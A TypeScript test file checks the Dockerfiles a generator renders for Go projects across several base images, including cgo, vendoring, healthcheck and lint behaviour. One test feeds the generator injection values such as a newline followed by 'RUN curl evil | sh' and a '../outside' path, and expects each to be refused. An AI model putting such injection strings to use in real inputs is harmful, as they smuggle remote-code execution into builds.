import { readFile } from 'node:fs/promises';
import path from 'node:path';
import dockerignoreModule from '@balena/dockerignore';
import { describe, expect, it } from 'vitest';
import { lintDockerfile } from '../../src/lint/index.js';
import { createProject } from '../../src/project.js';
import { createRenderer } from '../../src/render/handlebars.js';
import { go, type GoFacts } from '../../src/stacks/go/index.js';
import { GO_DEFAULTS } from '../../src/stacks/go/defaults.js';
import type { BaseId, Detection, ResolvedOptions } from '../../src/types.js';
import { FIXTURES, ROOT } from '../helpers.js';

// CommonJS default export: typed as the module object under NodeNext (see src/lint/dockerignore.ts).
const ignore = dockerignoreModule.default;

async function detectFixture(name: string): Promise<Detection<GoFacts>> {
  const detection = await go.detect(await createProject(path.join(FIXTURES, name)));
  if (detection === null) throw new Error(`${name}: not detected as Go`);
  return detection;
}

function options(detection: Detection<GoFacts>, over: Partial<ResolvedOptions> = {}): ResolvedOptions {
  return {
    port: detection.values.port,
    languageVersion: detection.values.languageVersion ?? GO_DEFAULTS.go,
    packageManager: 'go',
    startCommand: detection.values.startCommand ?? ['/app/server'],
    base: 'distroless',
    healthcheck: true,
    choices: Object.fromEntries(detection.choices.map((c) => [c.key, c.defaultValue ?? ''])),
    features: {},
    ...over,
  };
}

const render = await createRenderer();
function dockerfile(detection: Detection<GoFacts>, over: Partial<ResolvedOptions> = {}): string {
  const plan = go.plan(detection, options(detection, over));
  return render(plan.template, plan.data);
}

describe('plans per base', () => {
  const bases: readonly BaseId[] = ['distroless', 'scratch', 'alpine'];
  it('lists distroless first (the default), then scratch and alpine', () => {
    expect(go.bases).toEqual(bases);
  });

  it.for(bases)('%s: cross-compiled static binary, nonroot user, the probe HEALTHCHECK', async (base) => {
    const detection = await detectFixture('go-stdlib');
    const text = dockerfile(detection, { base });
    expect(text).toContain('FROM --platform=$BUILDPLATFORM golang:${GO_VERSION}-trixie AS base');
    expect(text).toContain('CGO_ENABLED=0 GOOS=$TARGETOS GOARCH=$TARGETARCH');
    expect(text).toContain('go build -trimpath -ldflags="-s -w" -o /out/server .');
    expect(text).toMatch(/USER nonroot:nonroot\n/);
    expect(text).toContain('CMD ["/usr/local/bin/healthcheck", "8080"]');
    expect(text.trimEnd().split('\n').filter((l) => l.startsWith('FROM ')).at(-1)).toMatch(/AS production$/);
    const plan = go.plan(detection, options(detection, { base }));
    expect(plan.image.healthcheck).toEqual(['CMD', '/usr/local/bin/healthcheck', '8080']);
    expect(await lintDockerfile(text, { dockerignore: `${plan.ignore.join('\n')}\n` })).toEqual([]);
  });

  it('--no-healthcheck drops the probe stage and writes HEALTHCHECK NONE', async () => {
    const detection = await detectFixture('go-stdlib');
    const text = dockerfile(detection, { healthcheck: false });
    expect(text).toContain('HEALTHCHECK NONE');
    expect(text).not.toContain('AS healthcheck');
    expect(go.plan(detection, options(detection, { healthcheck: false })).image.healthcheck).toBeNull();
  });

  it('cgo: no --platform on the builder (and says why), distroless/base, static link on scratch, musl on alpine', async () => {
    const detection = await detectFixture('go-cgo-sqlite');
    const distroless = dockerfile(detection);
    expect(distroless).toMatch(/# cgo links C code[^\n]*\n#[^\n]*emulation[^\n]*\nFROM golang:\$\{GO_VERSION\}-trixie AS base/);
    expect(distroless).not.toContain('--platform');
    expect(distroless).toContain('CGO_ENABLED=1');
    expect(distroless).toContain('FROM gcr.io/distroless/base-debian13:nonroot AS production');
    const scratch = dockerfile(detection, { base: 'scratch' });
    expect(scratch).toContain('-tags=netgo,osusergo -ldflags="-s -w -linkmode=external -extldflags=-static"');
    const alpine = dockerfile(detection, { base: 'alpine' });
    expect(alpine).toContain('FROM golang:${GO_VERSION}-alpine${ALPINE_VERSION} AS base\nRUN apk add --no-cache gcc musl-dev');
    expect(alpine).toContain('FROM alpine:${ALPINE_VERSION} AS production');
  });

  it('vendored: -mod=vendor everywhere, no download, and vendor/ reaches the build context', async () => {
    const detection = await detectFixture('go-vendored');
    const plan = go.plan(detection, options(detection));
    const text = render(plan.template, plan.data);
    expect(text).toContain('go build -mod=vendor');
    expect(text).toContain('go test -mod=vendor ./...');
    expect(text).toContain('CMD ["go", "run", "-mod=vendor", "."]');
    expect(text).not.toContain('go mod download');
    const ignored = ignore().add(plan.ignore.filter((l) => l !== '' && !l.startsWith('#')));
    for (const kept of ['vendor/modules.txt', 'vendor/github.com/google/uuid/uuid.go', 'go.mod', 'go.sum', 'go.work', 'go.work.sum', 'main_test.go', 'testdata/cert.pem', 'cmd/api/main.go']) {
      expect(ignored.ignores(kept), kept).toBe(false);
    }
    for (const dropped of ['.git/HEAD', '.env', 'server.test', 'coverage.out', 'bin/server']) expect(ignored.ignores(dropped), dropped).toBe(true);
  });

  it('refuses a --main or version that would inject an instruction', async () => {
    const detection = await detectFixture('go-stdlib');
    expect(() => go.plan(detection, options(detection, { choices: { main: './cmd/api\nRUN curl evil | sh' } }))).toThrow(/Refusing/);
    expect(() => go.plan(detection, options(detection, { choices: { main: '../outside' } }))).toThrow(/Refusing/);
    expect(() => go.plan(detection, options(detection, { languageVersion: '1.24 AS x' }))).toThrow(/Refusing/);
  });
});

// Every generated Dockerfile, Go's included, is linted clean in test/snapshots.test.ts.
describe('the Go snapshot and the linter', () => {
  it('would flag a constant --platform on the builder (the check can fail)', async () => {
    const text = await readFile(path.join(ROOT, 'snapshots/go-stdlib/Dockerfile'), 'utf8');
    const findings = await lintDockerfile(text.replace('--platform=$BUILDPLATFORM', '--platform=linux/amd64'), { shellcheck: false });
    expect(findings.map((f) => f.rule)).toContain('DL3029');
  });
});
